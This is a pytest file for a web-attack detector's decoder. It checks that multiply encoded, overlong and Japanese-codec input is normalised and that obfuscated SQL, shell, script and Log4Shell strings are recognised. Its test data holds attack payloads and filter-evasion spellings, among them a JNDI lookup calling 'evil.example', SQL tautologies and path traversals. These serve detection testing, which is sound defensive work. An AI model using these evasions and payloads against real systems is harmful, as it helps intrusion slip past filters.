"""Every encoding by which an attack may be hidden is undone; other scripts pass as they are."""

from urllib.parse import quote, quote_plus

import pytest

from pipelines.detect.web.decode import EVASION, decoded, evasions
from pipelines.detect.web.views import BORDER, views


@pytest.mark.parametrize(
    "logged",
    [
        "<a b='1'>",
        "%3Ca%20b%3D%271%27%3E",
        "%3ca+b=%271%27%3e",
        "%253Ca%2520b%253D%25271%2527%253E",
        "%25253Ca%252520b%25253D%2525271%252527%25253E",
        "%u003ca%u0020b=%u00271%u0027%u003e",
        r"\x3ca b=\x271\x27\x3e",
        r"\u003ca b=\u00271\u0027\u003e",
        r"\u{3c}a b=\u{27}1\u{27}\u{3e}",
        "&lt;a b=&#39;1&#x27;&gt;",
        "%26lt%3Ba%20b%3D%26%2339%3B1%26%23x27%3B%26gt%3B",
        "%EF%BC%9CA+b%EF%BC%9D%EF%BC%871%EF%BC%87%EF%BC%9E",
        "＜ａ ｂ＝＇１＇＞",
        "%%33Ca b='1'%3E".replace("%%33C", "%253C"),
        "<A B='1'>",
    ],
)
def test_every_spelling_of_a_text_is_read_alike(logged: str) -> None:
    """Percent-encoding once to three times, %u, server's and script's escapes, HTML, full-width."""
    assert decoded(logged, is_form=True)[0] == "<a b='1'>"


@pytest.mark.parametrize("codec", ["utf-8", "cp932", "euc_jp"])
def test_japanese_is_read_in_each_of_its_encodings(codec: str) -> None:
    """Bytes of characters are never taken for the signs that some of them hold (ソ is 83 5C)."""
    text = "ソフト表示・予約（夏）"
    read = decoded(quote(text.encode(codec)), is_form=True)[0]
    assert "\\" not in read
    assert read == "ソフト表示・予約(夏)"


def test_a_byte_that_spoils_the_decoding_hides_nothing() -> None:
    """A quotation mark behind half a character stays a quotation mark."""
    for byte in ("%bf", "%8C%FF", "%zz", "%e3%82"):
        assert "' or 1=1" in decoded(f"{byte}%27+or+1%3D1", is_form=True)[0]


@pytest.mark.parametrize("logged", ["..%c0%afx", "..%e0%80%afx", "%c0%ae%c0%ae%c0%afx", "%c1%1c"])
def test_overlong_forms_are_read_as_a_lax_decoder_does(logged: str) -> None:
    """ASCII in two or three bytes is a second reading beside the strict one."""
    readings = decoded(logged, is_form=False)
    assert any("../x" in reading or "\\" in reading or "\x1c" in reading for reading in readings)


def test_japanese_hides_no_overlong_form_and_is_none() -> None:
    """実際 has C0 8D between its characters; the same octets elsewhere are a line break."""
    assert decoded(quote("実際に".encode("cp932")), is_form=False) == ["実際に"]
    assert any("\r" in reading for reading in decoded("a%c0%8dx", is_form=False))
    assert any("../" in one for one in decoded("%82%a0..%c0%afx", is_form=False))


def test_iso_2022_jp_is_read_where_most_of_it_is_kana() -> None:
    """Its octets are signs of ASCII, `$` and `%` among them, which else look like code."""
    text = "これはバッテリーの予約"
    assert decoded(quote(text.encode("iso2022_jp")), is_form=True) == [text]


def test_what_is_not_kana_in_iso_2022_jp_stays_as_it_is() -> None:
    """Whoever puts its escape before an attack hides nothing by it."""
    for attack in ("${jndi:ldap://evil.example/a}", "<svg/onload=alert(1)>", "'or'1'='1'--x"):
        assert attack in decoded(quote(f"\x1b$B{attack}\x1b(B"), is_form=True)[0]


def test_a_plus_is_a_space_in_forms_only() -> None:
    """In a path it stands for itself."""
    assert decoded("a+b", is_form=True) == ["a b"]
    assert decoded("a+b", is_form=False) == ["a+b"]


@pytest.mark.parametrize(
    ("text", "view"),
    [
        ("sel%ect", "select"),
        ("un/**/ion/*x*/select", "un ion select"),
        ("1/*!50000union*/select", "1 union select"),
        ("union--x\rselect", "union select"),
        ("c'a't /x", "cat /x"),
        ('c""at /x', "cat /x"),
        ("c\\at /x", "cat /x"),
        ("cat${ifs}/x", "cat /x"),
        ("{cat,/x}", " cat /x}"),
        ("'al'+'ert'", "'alert'"),
        ("java\tscript:x", "javascript:x"),
        ("${${lower:j}ndi:x}", "${jndi:x}"),
        ("${${::-j}${env:none:-n}di:x}", "${jndi:x}"),
    ],
)
def test_each_language_has_its_view(text: str, view: str) -> None:
    """Comments, quotes, joined strings, control characters and look-ups are read as they run."""
    assert view in views(text).split(BORDER)


def test_a_plain_text_has_one_view() -> None:
    """What hides nothing is looked at once."""
    assert views("autumn tires 2026") == "autumn tires 2026"


def test_decoding_ends() -> None:
    """A text that grows new escapes at each round is left after four."""
    text = "'"
    for _ in range(9):
        text = quote_plus(text)
    assert decoded(text, is_form=True)[0].startswith("%25")


@pytest.mark.parametrize(
    ("logged", "names"),
    [
        ("%2e%2e/a", ["points"]),
        (".%252e%252fa", ["points"]),
        ("..%252fa", ["step"]),
        ("..%2fa", []),
        ("a.b%2Ec", []),
        ("%26%23x0003c%3B", ["zeros", "character"]),
        ("O%26%23039%3BBrien", []),
        ("%68%74%74%70://a", ["scheme"]),
        ("100%25", []),
    ],
)
def test_what_no_browser_writes_so_is_named(logged: str, names: list[str]) -> None:
    """Points, slashes, characters of HTML and letters whose codes only hide them."""
    assert evasions(logged) == [f"{EVASION}{name}" for name in names]
